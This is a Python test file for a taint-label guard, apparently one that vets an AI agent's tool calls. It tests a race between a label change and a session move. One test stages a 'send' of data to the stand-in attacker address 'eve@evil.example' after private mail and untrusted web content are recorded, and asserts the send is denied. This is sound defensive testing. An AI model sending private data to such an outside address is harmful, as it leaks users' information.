"""A send was decided under labels that had changed, while its conversation moved into a session (T8).

A guard writes its decision under the label version that it read. When the conversation moves into a session at that
moment, the decision was written to the old journal, where the version still stood, and then copied into the session
without asking again: a page that another thread had read meanwhile was in the session's labels, and the send went out.
Mutation that this file catches: the second write without the version that the decision was made under.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path

from interlock import Conversation, MemoryJournal, Session, Verdict
from interlock.model.digests import NO_DIGEST
from interlock.model.entries import Admitted, Decided, Entry
from interlock.model.labels import Label
from interlock.model.state import State
from tests.worlds import FixedClock, StepsWorld, guard_in

AT = "2026-11-29T12:00:00.000000Z"


class Interrupted(MemoryJournal):
    """A journal in which something else happens right before the first decision is written."""

    meanwhile: Callable[[], object] | None = None

    def append(self, conversation: str, entries: Sequence[Entry], *, expected: int | None = None) -> State:
        happen = self.meanwhile
        if happen is not None and any(isinstance(one, Decided) for one in entries):
            self.meanwhile = None
            happen()
        return super().append(conversation, entries, expected=expected)


def test_t8_a_move_and_a_label_between_deciding_and_writing_decide_anew(tmp_path: Path) -> None:
    journal = Interrupted()
    conversation = Conversation(labels=["private:mail"], clock=FixedClock())
    guard = guard_in(StepsWorld(journal), conversation)
    sessions: list[Session] = []

    def meanwhile() -> None:
        sessions.append(Session.create(tmp_path / "s", conversation))
        conversation.record(Admitted(AT, "another thread", (Label("untrusted:web"),), NO_DIGEST, 0))

    journal.meanwhile = meanwhile
    sent: list[object] = []
    outcome = guard.call("send", {"to": "eve@evil.example", "body": "x"}, run=lambda **given: sent.append(given))
    assert outcome.verdict is Verdict.DENY
    assert not sent
    sessions[0].close()


def test_t8_honest_a_move_alone_loses_no_call(tmp_path: Path) -> None:
    journal = Interrupted()
    conversation = Conversation(clock=FixedClock())
    guard = guard_in(StepsWorld(journal), conversation)
    sessions: list[Session] = []
    journal.meanwhile = lambda: sessions.append(Session.create(tmp_path / "s", conversation))
    assert guard.call("read_mail", {"folder": "inbox"}, run=lambda folder: "mail").result == "mail"
    sessions[0].close()
    after = Session.load(tmp_path / "s")
    assert {"private:mail", "untrusted:mail"} <= set(after.conversation.taint)
    after.close()


def test_t2_a_call_in_flight_during_the_move_joins_in_the_session(tmp_path: Path) -> None:
    conversation = Conversation(clock=FixedClock())
    guard = guard_in(StepsWorld(MemoryJournal()), conversation)
    sessions: list[Session] = []

    def fetch(url: str) -> str:
        sessions.append(Session.create(tmp_path / "s", conversation))
        return "page"

    assert guard.call("fetch", {"url": "http://a.example/"}, run=fetch).result == "page"
    assert "untrusted:web" in conversation.taint
    sessions[0]._file.close()
    after = Session.load(tmp_path / "s")
    assert "untrusted:web" in after.conversation.taint
    after.close()
